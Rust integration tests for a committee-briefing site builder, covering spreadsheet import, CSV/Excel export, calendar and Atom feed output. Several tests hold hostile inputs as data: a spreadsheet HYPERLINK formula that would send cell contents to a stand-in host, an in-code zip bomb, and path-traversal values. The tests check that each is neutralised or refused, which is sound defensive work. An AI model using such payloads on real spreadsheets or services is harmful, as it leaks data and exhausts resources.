//! Data in and out: metric figures taken from spreadsheets (workbooks made
//! here with rust_xlsxwriter, so no binary file needs review), the tables
//! written as CSV and Excel and read back, the calendar parsed by readers
//! other than its writer, and the Atom feed read as XML.

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::io::BufReader;
use std::path::Path;

use calamine::{Data, Reader, Xlsx};
use common::*;
use rust_xlsxwriter::{ExcelDateTime, Format, Workbook};

/// A built copy of a content folder with more build options.
fn built_with(content: &Path, extra: &[&str]) -> (tempfile::TempDir, std::path::PathBuf) {
    let tmp = tempfile::TempDir::new().unwrap();
    let out = tmp.path().join("output");
    let mut args = vec!["build", "--content", arg(content), "--out", arg(&out)];
    args.extend_from_slice(extra);
    let o = run(&args);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    (tmp, out)
}

#[path = "../examples/make-data.rs"]
mod make_data;

#[test]
fn the_example_spreadsheet_is_what_make_data_writes() {
    let committed = fs::read(example_content().join("data/seizures.xlsx")).unwrap();
    let made = make_data::workbook().unwrap();
    assert!(made.starts_with(b"PK"), "a zip file");
    assert_eq!(made, committed, "run `cargo run --example make-data` and commit content/data/seizures.xlsx");
    // And the example takes the metric from it.
    let update = read(&example_content().join("updates/2021-05-26/border-security.yaml"));
    assert!(update.contains("from: ../../data/seizures.xlsx"), "{update}");
}

/// A content folder with one group (`reports`, parties CA and US) whose
/// update takes its metric from `data/<file>` (`spec` is the YAML map).
fn site_with_data(spec: &str, file: &str, bytes: &[u8]) -> (tempfile::TempDir, std::path::PathBuf) {
    let (tmp, content) = temp_copy(&invalid_content("bad-period"));
    fs::write(
        content.join("site.yaml"),
        "title: Minimal Committee\nlanguages: [en]\nparties:\n  CA: Canada\n  US: United States\n",
    )
    .unwrap();
    fs::write(
        content.join("updates/2021-05-26/health.yaml"),
        format!(
            "summary: Work has started.\nactivities:\n  surveillance: {{status: in-progress, progress: 35}}\nmetrics:\n  reports: {spec}\n"
        ),
    )
    .unwrap();
    fs::create_dir_all(content.join("data")).unwrap();
    fs::write(content.join("data").join(file), bytes).unwrap();
    (tmp, content)
}

/// A workbook whose sheet `Figures` holds `rows` (None = an empty cell).
fn workbook(rows: &[Vec<Cell>]) -> Vec<u8> {
    let mut book = Workbook::new();
    let ws = book.add_worksheet();
    ws.set_name("Figures").unwrap();
    let date = Format::new().set_num_format("yyyy-mm-dd");
    for (r, row) in rows.iter().enumerate() {
        for (c, cell) in row.iter().enumerate() {
            let (r, c) = (r as u32, c as u16);
            match cell {
                Cell::Text(t) => ws.write_string(r, c, *t).map(|_| ()),
                Cell::Num(n) => ws.write_number(r, c, *n).map(|_| ()),
                Cell::Date(y, m, d) => ws
                    .write_datetime_with_format(r, c, ExcelDateTime::from_ymd(*y, *m, *d).unwrap(), &date)
                    .map(|_| ()),
                Cell::Bool(b) => ws.write_boolean(r, c, *b).map(|_| ()),
                Cell::Empty => Ok(()),
            }
            .unwrap();
        }
    }
    book.save_to_buffer().unwrap()
}

enum Cell {
    Text(&'static str),
    Num(f64),
    Date(u16, u8, u8),
    Bool(bool),
    Empty,
}
use Cell::*;

#[test]
fn an_xlsx_import_takes_text_periods_excel_dates_and_years_and_leaves_gaps() {
    let book = workbook(&[
        vec![Text("Reports shared (illustrative)")],
        vec![],
        vec![Text("period"), Text("CA"), Text("US")],
        vec![Text("2021-03"), Num(3.0), Num(5.5)],
        vec![Date(2021, 4, 30), Num(4.0), Empty],
        vec![Num(2020.0), Empty, Num(7.0)],
        vec![Text("2021-Q3"), Text("6"), Num(8.0)],
    ]);
    let (_tmp, content) = site_with_data(
        "{from: ../../data/reports.xlsx, sheet: Figures, range: A3:C7}",
        "reports.xlsx",
        &book,
    );
    let out = content.parent().unwrap().join("out");
    let o = build_ok(&content, &out);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let csv = read(&out.join("data/metrics.csv"));
    let rows: Vec<&str> = csv.lines().skip(1).collect();
    assert_eq!(
        rows,
        [
            "Health,reports,Reports shared,reports,2020,United States,7",
            "Health,reports,Reports shared,reports,2021-03,Canada,3",
            "Health,reports,Reports shared,reports,2021-03,United States,5.5",
            "Health,reports,Reports shared,reports,2021-04-30,Canada,4",
            "Health,reports,Reports shared,reports,2021-Q3,Canada,6",
            "Health,reports,Reports shared,reports,2021-Q3,United States,8",
        ],
        "an empty cell is a gap, never a zero:\n{csv}"
    );
    // Without a range, the table is every cell used: the title row then
    // stands where the headings should be.
    let (_tmp2, content) = site_with_data("{from: ../../data/reports.xlsx}", "reports.xlsx", &book);
    let diags = parse_diags(&stdout(&check_json(&content, &[])));
    assert!(
        diags.iter().any(|d| d.code == "unknown-party" && d.message.contains("Reports shared")),
        "{diags:?}"
    );
}

#[test]
fn xlsx_import_mistakes_are_reported_at_their_cells() {
    let book = workbook(&[
        vec![Text("period"), Text("CA"), Text("USA"), Text("CA")],
        vec![Text("2021-01"), Num(1.0), Num(1.0), Empty],
        vec![Text("Jan 2021"), Num(2.0), Empty, Empty],
        vec![Text("2021-02"), Text("n/a"), Empty, Empty],
        vec![Text("2021-01"), Num(4.0), Empty, Empty],
        vec![Empty, Num(5.0), Empty, Empty],
        vec![Num(44256.5), Num(6.0), Empty, Empty],
        vec![Text("2021-03"), Bool(true), Empty, Empty],
    ]);
    let (_tmp, content) = site_with_data("{from: ../../data/reports.xlsx}", "reports.xlsx", &book);
    let o = check_json(&content, &[]);
    assert_eq!(code(&o), 1);
    let out = stdout(&o);
    let places: Vec<(String, String)> = out
        .lines()
        .map(|l| {
            let v: serde_json::Value = serde_json::from_str(l).unwrap();
            (v["cell"].as_str().unwrap_or("").to_string(), v["code"].as_str().unwrap().to_string())
        })
        .collect();
    assert_eq!(
        places,
        [
            ("Figures!C1", "unknown-party"),
            ("Figures!D1", "duplicate-id"),
            ("Figures!A3", "bad-period"),
            ("Figures!B4", "wrong-type"),
            ("Figures!A5", "duplicate-id"),
            ("Figures!A6", "missing-field"),
            ("Figures!A7", "bad-period"),
            ("Figures!B8", "wrong-type"),
        ]
        .map(|(a, b)| (a.to_string(), b.to_string()))
    );
    insta::assert_snapshot!("xlsx-import-mistakes", out);
    // The human report names the file and the cell, with the hint.
    let human = briefing().args(["check", "--content", arg(&content)]).output().unwrap();
    let text = stderr(&human) + &stdout(&human);
    assert!(
        text.contains("data/reports.xlsx: Figures!B4: `n/a` for CA in 2021-02 is not a number"),
        "{text}"
    );
    assert!(text.contains("did you mean `US`?"), "{text}");
    assert!(text.contains("check failed: 8 errors"), "{text}");
}

#[test]
fn a_sheet_range_or_file_that_is_not_there_is_reported_at_the_update() {
    let book = workbook(&[vec![Text("period"), Text("CA")], vec![Text("2021-01"), Num(1.0)]]);
    for (spec, code_, needle) in [
        ("{from: ../../data/reports.xlsx, sheet: Figure}", "data-file", "did you mean `Figures`?"),
        ("{from: ../../data/reports.xlsx, range: A1-B2}", "invalid-value", "A1:C13"),
        ("{from: ../../../outside.csv}", "unsafe-path", "data/"),
        ("{from: ../../groups/health.yaml}", "invalid-value", "data/"),
        ("{from: ../../data/report.xlsx}", "data-file", "did you mean `data/reports.xlsx`?"),
        ("{form: ../../data/reports.xlsx}", "unknown-key", "from"),
    ] {
        let (_tmp, content) = site_with_data(spec, "reports.xlsx", &book);
        let diags = parse_diags(&stdout(&check_json(&content, &[])));
        assert!(
            diags.iter().any(|d| d.code == code_
                && d.file == "updates/2021-05-26/health.yaml"
                && d.line == 5
                && d.hint.as_deref().unwrap_or("").contains(needle)),
            "{spec}: {diags:?}"
        );
    }
    // A file that is not a spreadsheet at all, under a spreadsheet's name.
    let (_tmp, content) =
        site_with_data("{from: ../../data/reports.xlsx}", "reports.xlsx", b"not a zip file");
    let diags = parse_diags(&stdout(&check_json(&content, &[])));
    assert!(diags.iter().any(|d| d.code == "data-file" && d.message.contains("cannot be read")), "{diags:?}");
    // And a CSV file that is not UTF-8.
    let (_tmp, content) =
        site_with_data("{from: ../../data/reports.csv}", "reports.csv", b"period,CA\n2021-01,\xff\n");
    let diags = parse_diags(&stdout(&check_json(&content, &[])));
    assert!(
        diags.iter().any(|d| d.code == "not-utf8" && d.file == "data/reports.csv" && d.line == 2),
        "{diags:?}"
    );
}

/// The rows of an exported CSV file, parsed back (without its BOM).
fn csv_rows(path: &Path) -> Vec<Vec<String>> {
    let bytes = fs::read(path).unwrap();
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").expect("a BOM for Excel");
    let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(bytes);
    r.records().map(|rec| rec.unwrap().iter().map(str::to_string).collect()).collect()
}

/// A workbook cell as its CSV text.
fn as_csv_text(d: &Data) -> String {
    match d {
        Data::Empty => String::new(),
        Data::String(s) => s.clone(),
        Data::Float(f) => briefing::core::words::show_number(*f),
        Data::Int(i) => i.to_string(),
        Data::DateTime(dt) => {
            let (y, m, d, ..) = dt.to_ymd_hms_milli();
            format!("{y:04}-{m:02}-{d:02}")
        }
        other => panic!("unexpected cell {other:?}"),
    }
}

#[test]
fn exported_workbooks_read_back_as_the_csv_files_and_the_model_say() {
    let (_tmp, out) = built(&example_content());
    for lang in ["", "fr/"] {
        for table in ["actions", "decisions", "activities", "risks", "metrics"] {
            let csv = csv_rows(&out.join(format!("{lang}data/{table}.csv")));
            let mut book: Xlsx<_> =
                calamine::open_workbook(out.join(format!("{lang}data/{table}.xlsx"))).unwrap();
            let sheet = book.sheet_names()[0].clone();
            let range = book.worksheet_range(&sheet).unwrap();
            let rows: Vec<Vec<String>> = range.rows().map(|r| r.iter().map(as_csv_text).collect()).collect();
            assert!(csv.len() > 1, "{lang}{table}: a header and rows");
            assert_eq!(rows.len(), csv.len(), "{lang}{table}: as many rows");
            for (i, (x, c)) in rows.iter().zip(&csv).enumerate() {
                let x: Vec<&str> = x.iter().map(String::as_str).collect();
                let c: Vec<&str> = c.iter().map(String::as_str).collect();
                if table == "activities" && i > 0 {
                    // Progress is a percentage in the workbook (0.35), a
                    // number of percent in CSV (35).
                    let p: f64 = x[6].parse().unwrap_or(0.0);
                    assert_eq!(
                        c[6],
                        if x[6].is_empty() { String::new() } else { format!("{}", (p * 100.0).round()) }
                    );
                    assert_eq!(
                        [&x[..6], &x[7..]].concat(),
                        [&c[..6], &c[7..]].concat(),
                        "{lang}{table} row {i}"
                    );
                } else {
                    assert_eq!(x, c, "{lang}{table} row {i}");
                }
            }
            // A formatted table over the data, and dates stored as dates.
            book.load_tables().unwrap();
            assert_eq!(
                book.table_names(),
                [&table.to_string()],
                "{lang}{table}: one Excel table, named as the file"
            );
            if table == "actions" {
                assert!(
                    range.rows().skip(1).all(|r| matches!(r[6], Data::DateTime(_))),
                    "meeting dates are dates"
                );
            }
        }
    }
    // The model: the English action tracker lists every action of the
    // example's meetings, with its owner and due date.
    let actions = csv_rows(&out.join("data/actions.csv"));
    assert_eq!(actions[0], ["ID", "Action", "Owner", "Group", "Due", "Status", "Meeting date", "Meeting"]);
    let row = actions.iter().find(|r| r[0] == "A-2021-05-01").expect("A-2021-05-01");
    assert_eq!(row[2..5], ["CBSA", "Border Security", "2021-09-30"]);
    let ids: BTreeSet<&str> = actions[1..].iter().map(|r| r[0].as_str()).collect();
    assert_eq!(ids.len(), actions.len() - 1, "each action once");
    // The metric taken from the example's spreadsheet is in the export.
    let metrics = csv_rows(&out.join("data/metrics.csv"));
    assert!(
        metrics.iter().any(|r| r[1] == "seizures" && r[4] == "2021-04" && r[5] == "Canada" && r[6] == "12.5")
    );
    // The French tables have French headers and texts.
    let fr = csv_rows(&out.join("fr/data/activities.csv"));
    assert_eq!(fr[0][0], "Groupe");
    assert!(fr.iter().any(|r| r[1] == "detection-capacity" && r[2].contains("détection")), "{fr:?}");
}

/// The events of an .ics file as read by the `ical` crate: each event's
/// properties by name.
fn ical_events(path: &Path) -> Vec<BTreeMap<String, String>> {
    let reader = ical::IcalParser::new(BufReader::new(fs::File::open(path).unwrap()));
    let mut events = Vec::new();
    let mut calendars = 0;
    for cal in reader {
        let cal = cal.unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        calendars += 1;
        let names: BTreeSet<&str> = cal.properties.iter().map(|p| p.name.as_str()).collect();
        assert!(names.contains("VERSION") && names.contains("PRODID"), "{names:?}");
        for e in cal.events {
            events.push(e.properties.into_iter().map(|p| (p.name, p.value.unwrap_or_default())).collect());
        }
    }
    assert_eq!(calendars, 1, "{}", path.display());
    events
}

#[test]
fn the_calendar_is_valid_icalendar_with_every_meeting_and_open_due_date() {
    let (_tmp, out) = built(&example_content());
    let path = out.join("calendar.ics");
    let bytes = fs::read(&path).unwrap();
    let text = String::from_utf8(bytes).unwrap();
    // RFC 5545: CRLF line ends, lines of at most 75 octets.
    assert!(!text.replace("\r\n", "").contains('\n'), "bare LF");
    assert!(text.split("\r\n").all(|l| l.len() <= 75), "a line over 75 octets");
    assert!(text.contains("\r\n "), "long lines are folded");
    let events = ical_events(&path);
    let uids: BTreeSet<&str> = events.iter().map(|e| e["UID"].as_str()).collect();
    assert_eq!(uids.len(), events.len(), "UIDs are unique");
    for e in &events {
        for key in ["UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY"] {
            assert!(e.contains_key(key), "{key} missing: {e:?}");
        }
    }
    // The meetings of the example (the one to come too), and each open
    // action with a due date.
    let meetings: Vec<&BTreeMap<String, String>> =
        events.iter().filter(|e| e["UID"].starts_with("meeting-")).collect();
    assert_eq!(meetings.len(), 3);
    let next =
        meetings.iter().find(|e| e["DTSTART"].starts_with("20210929T")).expect("the September meeting");
    assert_eq!(next["DTSTART"], "20210929T130000", "at its time: {next:?}");
    let may = meetings.iter().find(|e| e["DTSTART"] == "20210526").expect("the May meeting");
    assert_eq!(may["SUMMARY"], "Steering Committee meeting");
    let actions = csv_rows(&out.join("data/actions.csv"));
    let open_due = actions[1..]
        .iter()
        .filter(|r| !r[4].is_empty() && ["Open", "In progress", "Overdue"].contains(&r[5].as_str()))
        .count();
    let due: Vec<&BTreeMap<String, String>> =
        events.iter().filter(|e| e["UID"].starts_with("action-")).collect();
    assert_eq!(due.len(), open_due);
    let a1 = due.iter().find(|e| e["UID"].starts_with("action-A-2021-05-01@")).expect("A-2021-05-01");
    assert_eq!(a1["DTSTART"], "20210930");
    assert!(a1["DESCRIPTION"].contains("CBSA"), "{a1:?}");
    // One calendar per group, holding only that group's due dates.
    let health = ical_events(&out.join("calendar/health.ics"));
    assert!(health.iter().any(|e| e["UID"].starts_with("action-A-2021-05-04@")));
    assert!(!health.iter().any(|e| e["UID"].starts_with("action-A-2021-05-01@")));
    // UIDs stay the same from one build to the next, and in each language.
    let fr = ical_events(&out.join("fr/calendar.ics"));
    let fr_uids: BTreeSet<&str> = fr.iter().map(|e| e["UID"].as_str()).collect();
    assert_eq!(fr_uids, uids);
    // With a base URL, each event links to its page.
    let (_tmp2, out2) = built_with(&example_content(), &["--base-url", "https://briefing.example.org/jap/"]);
    let with_base = ical_events(&out2.join("calendar.ics"));
    let may = with_base
        .iter()
        .find(|e| e["UID"] == "meeting-2021-05-26@briefing.example.org")
        .expect("UID by host");
    assert_eq!(may["URL"], "https://briefing.example.org/jap/meetings/2021-05-26/");
}

#[test]
#[ignore = "needs python icalendar (installed by .ci/run)"]
fn the_calendar_parses_with_python_icalendar() {
    let (_tmp, out) = built(&example_content());
    let script = r#"
import sys, icalendar
for path in sys.argv[1:]:
    cal = icalendar.Calendar.from_ical(open(path, 'rb').read())
    events = cal.walk('VEVENT')
    assert events, path
    for e in events:
        assert e.get('UID') and e.get('DTSTAMP') and e.get('DTSTART') and e.get('SUMMARY'), e
    print(path.rsplit('/', 1)[-1], len(events), events[0].decoded('DTSTART').isoformat())
"#;
    let files = ["calendar.ics", "fr/calendar.ics", "calendar/health.ics", "meetings/2021-09-29/invite.ics"]
        .map(|f| out.join(f));
    let printed = python_prints("icalendar", script, &files);
    assert!(
        printed.contains("calendar.ics 7 2021-09-29T13:00:00-04:00")
            && printed.contains("health.ics 2 ")
            && printed.contains("invite.ics 1 2021-09-29T13:00:00-04:00"),
        "{printed}"
    );
}

#[test]
fn the_feed_is_atom_with_updates_and_meetings_newest_first() {
    let (_tmp, out) = built_with(&example_content(), &["--base-url", "https://briefing.example.org/"]);
    for (lang, prefix) in [("en", ""), ("fr", "fr/")] {
        let text = read(&out.join(format!("{prefix}feed.xml")));
        let doc = roxmltree::Document::parse(&text).unwrap_or_else(|e| panic!("{lang}: {e}"));
        let feed = doc.root_element();
        assert_eq!(feed.tag_name().namespace(), Some("http://www.w3.org/2005/Atom"));
        let child = |n: roxmltree::Node, name: &str| {
            n.children().find(|c| c.tag_name().name() == name).and_then(|c| c.text()).map(str::to_string)
        };
        assert!(
            child(feed, "title").is_some() && child(feed, "id").is_some() && child(feed, "updated").is_some()
        );
        let entries: Vec<roxmltree::Node> =
            feed.children().filter(|c| c.tag_name().name() == "entry").collect();
        // 4 groups x 2 updates, and the 2 meetings held (not the one to come).
        assert_eq!(entries.len(), 10, "{lang}");
        assert!(!text.contains("2021-09-29"), "{lang}: no entry for the meeting to come");
        let dates: Vec<String> = entries.iter().map(|e| child(*e, "updated").unwrap()).collect();
        let mut sorted = dates.clone();
        sorted.sort_by(|a, b| b.cmp(a));
        assert_eq!(dates, sorted, "newest first");
        let ids: BTreeSet<String> = entries.iter().map(|e| child(*e, "id").unwrap()).collect();
        assert_eq!(ids.len(), entries.len(), "unique ids");
        for e in &entries {
            let link = e.children().find(|c| c.tag_name().name() == "link").unwrap();
            let href = link.attribute("href").unwrap();
            assert!(href.starts_with(&format!("https://briefing.example.org/{prefix}")), "{href}");
            let page = href.trim_start_matches("https://briefing.example.org/");
            assert!(out.join(page).join("index.html").is_file(), "{href} leads to a page");
        }
        assert!(text.contains("Steering Committee meeting") || lang == "fr");
    }
    // Without a base URL the links are relative to the feed.
    let (_tmp, out) = built(&example_content());
    let text = read(&out.join("feed.xml"));
    roxmltree::Document::parse(&text).unwrap();
    assert!(text.contains("href=\"meetings/2021-05-26/\""), "{text}");
}

#[test]
fn exported_workbooks_carry_the_briefing_date_and_fixed_zip_times() {
    let (_tmp, out) = built(&example_content());
    let today = jiff::Timestamp::now().to_string()[..10].to_string();
    for table in ["actions", "activities", "risks", "metrics"] {
        let file = fs::File::open(out.join(format!("data/{table}.xlsx"))).unwrap();
        let mut zip = zip::ZipArchive::new(file).unwrap();
        for i in 0..zip.len() {
            let entry = zip.by_index(i).unwrap();
            let t = entry.last_modified().expect("a time");
            assert_eq!(
                (t.year(), t.month(), t.day(), t.hour()),
                (1980, 1, 1, 0),
                "{table}: {:?}",
                entry.name()
            );
        }
        let mut core = String::new();
        std::io::Read::read_to_string(&mut zip.by_name("docProps/core.xml").unwrap(), &mut core).unwrap();
        assert!(core.contains("2021-05-26T00:00:00Z"), "{table}: the briefing date: {core}");
        assert!(!core.contains(&today), "{table}: no build date: {core}");
    }
}

#[test]
fn a_workbook_that_would_unzip_too_far_is_refused_before_it_is_read() {
    // A zip whose one entry unzips to 130 MiB of zeros: a few hundred KiB.
    let mut bomb = std::io::Cursor::new(Vec::new());
    {
        let mut zip = zip::ZipWriter::new(&mut bomb);
        let opts =
            zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
        zip.start_file("xl/worksheets/sheet1.xml", opts).unwrap();
        let zeros = vec![0u8; 1024 * 1024];
        for _ in 0..130 {
            std::io::Write::write_all(&mut zip, &zeros).unwrap();
        }
        zip.finish().unwrap();
    }
    let bytes = bomb.into_inner();
    assert!(bytes.len() < 2 * 1024 * 1024, "{} bytes", bytes.len());
    let (_tmp, content) = site_with_data("{from: ../../data/reports.xlsx}", "reports.xlsx", &bytes);
    let diags = parse_diags(&stdout(&check_json(&content, &[])));
    assert!(
        diags
            .iter()
            .any(|d| d.code == "too-large" && d.file == "data/reports.xlsx" && d.message.contains("unzip")),
        "{diags:?}"
    );
}

#[test]
fn a_meeting_time_goes_into_the_calendar_and_beside_the_date() {
    let (_tmp, content) = temp_copy(&example_content());
    let file = content.join("meetings/2021-05-26.md");
    let text = read(&file);
    fs::write(&file, text.replacen("format: virtual", "format: virtual\ntime: \"13:00-15:30\"", 1)).unwrap();
    let out = content.parent().unwrap().join("out");
    build_ok(&content, &out);
    let may = ical_events(&out.join("calendar.ics"))
        .into_iter()
        .find(|e| e["UID"].starts_with("meeting-2021-05-26@"))
        .expect("the May meeting");
    assert_eq!((may["DTSTART"].as_str(), may["DTEND"].as_str()), ("20210526T130000", "20210526T153000"));
    let page = read(&out.join("meetings/2021-05-26/index.html"));
    assert!(page.contains("13:00–15:30"), "the time beside the date");
    // Other meetings stay whole-day events.
    let roadmap = ical_events(&out.join("calendar.ics"))
        .into_iter()
        .find(|e| e["UID"].starts_with("meeting-2021-02-23-roadmap@"))
        .unwrap();
    assert_eq!(roadmap["DTSTART"], "20210223");
    // A time that is not one is reported at its place.
    for bad in ["25:00", "1pm", "14:00-", "9:00", "14:00-25:00"] {
        fs::write(&file, text.replacen("format: virtual", &format!("format: virtual\ntime: \"{bad}\""), 1))
            .unwrap();
        let diags = parse_diags(&stdout(&check_json(&content, &[])));
        assert!(
            diags.iter().any(|d| d.code == "invalid-value"
                && d.file == "meetings/2021-05-26.md"
                && d.line == 5
                && d.message.contains(bad)
                && d.hint.as_deref().unwrap_or("").contains("14:00-16:00")),
            "{bad}: {diags:?}"
        );
        assert!(diags.iter().all(|d| !d.message.contains("before")), "{bad}: {diags:?}");
    }
    // A span whose end is not after its start is a time of day: it says so.
    for (bad, says, hint) in [
        ("14:00-13:00", "`14:00-13:00` ends at 13:00, before it starts at 14:00", "\"14:00-15:00\""),
        ("09:30-09:30", "`09:30-09:30` ends when it starts, at 09:30", "\"09:30-10:30\""),
        ("23:45-00:15", "`23:45-00:15` ends at 00:15, before it starts at 23:45", "\"23:45-23:59\""),
    ] {
        fs::write(&file, text.replacen("format: virtual", &format!("format: virtual\ntime: \"{bad}\""), 1))
            .unwrap();
        let diags = parse_diags(&stdout(&check_json(&content, &[])));
        let d = diags
            .iter()
            .find(|d| d.code == "invalid-value" && d.line == 5)
            .unwrap_or_else(|| panic!("{diags:?}"));
        assert_eq!(d.message, says);
        assert!(!d.message.contains("not a time"), "{d:?}");
        assert!(d.hint.as_deref().unwrap().contains(hint), "{d:?}");
    }
}

#[test]
fn tracker_cells_a_spreadsheet_would_run_are_text_in_csv_and_in_the_workbook() {
    let (_tmp, content) = temp_copy(&example_content());
    let file = content.join("meetings/2021-05-26.md");
    let formula = r#"=HYPERLINK("http://x.example/?"&A1,"Click")"#;
    let text = read(&file).replacen(
        "owner: {en: CBSA, fr: ASFC}",
        &format!("owner: {{en: '{formula}', fr: '@SUM(A1)'}}"),
        1,
    );
    let text = text.replacen("en: Report on the port-of-entry pilot.", "en: \"-2+3 report\"", 1);
    fs::write(&file, text).unwrap();
    let out = content.parent().unwrap().join("out");
    build_ok(&content, &out);
    let csv = csv_rows(&out.join("data/actions.csv"));
    let row = csv.iter().find(|r| r[0] == "A-2021-05-01").expect("the action");
    assert_eq!(row[1..3], ["'-2+3 report".to_string(), format!("'{formula}")]);
    let fr = csv_rows(&out.join("fr/data/actions.csv"));
    assert_eq!(fr.iter().find(|r| r[0] == "A-2021-05-01").unwrap()[2], "'@SUM(A1)");
    // The workbook holds them as strings, as written.
    let mut book: Xlsx<_> = calamine::open_workbook(out.join("data/actions.xlsx")).unwrap();
    let sheet = book.sheet_names()[0].clone();
    let range = book.worksheet_range(&sheet).unwrap();
    let x = range.rows().find(|r| r[0] == Data::String("A-2021-05-01".into())).unwrap();
    assert_eq!(x[2], Data::String(formula.into()));
    // Figures stay numbers in the metrics' value column.
    let metrics = csv_rows(&out.join("data/metrics.csv"));
    assert!(metrics[1..].iter().all(|r| r[6].parse::<f64>().is_ok()), "{metrics:?}");
}

#[test]
fn an_action_due_before_1900_is_in_the_workbook_as_text_with_a_warning_of_its_own() {
    let (_tmp, content) = temp_copy(&example_content());
    let file = content.join("meetings/2021-05-26.md");
    fs::write(&file, read(&file).replacen("due: 2021-09-30", "due: 1021-09-30", 1)).unwrap();
    let diags = parse_diags(&stdout(&check_json(&content, &[])));
    let distant: Vec<_> = diags.iter().filter(|d| d.code == "distant-date").collect();
    assert_eq!(distant.len(), 1, "{diags:?}");
    assert_eq!(distant[0].file, "meetings/2021-05-26.md");
    assert!(distant[0].hint.as_deref().unwrap_or("").contains("did you mean 2021-09-30?"), "{distant:?}");
    let out = content.parent().unwrap().join("out");
    build_ok(&content, &out);
    for lang in ["", "fr/"] {
        let mut book: Xlsx<_> =
            calamine::open_workbook(out.join(format!("{lang}data/actions.xlsx"))).unwrap();
        let sheet = book.sheet_names()[0].clone();
        let range = book.worksheet_range(&sheet).unwrap();
        let row = range.rows().find(|r| r[0] == Data::String("A-2021-05-01".into())).unwrap();
        assert_eq!(row[4], Data::String("1021-09-30".into()), "{lang}: the date as text");
        assert!(matches!(row[6], Data::DateTime(_)), "{lang}: other dates stay dates");
    }
    // No page links a table file that is not there.
    for page in html_pages(&out) {
        let dir = out.join(&page).parent().unwrap().to_path_buf();
        for target in link_targets(&read(&out.join(&page))) {
            if target.ends_with(".xlsx") || target.ends_with(".csv") {
                assert!(dir.join(&target).is_file(), "{page} links {target}, which is not there");
            }
        }
    }
}
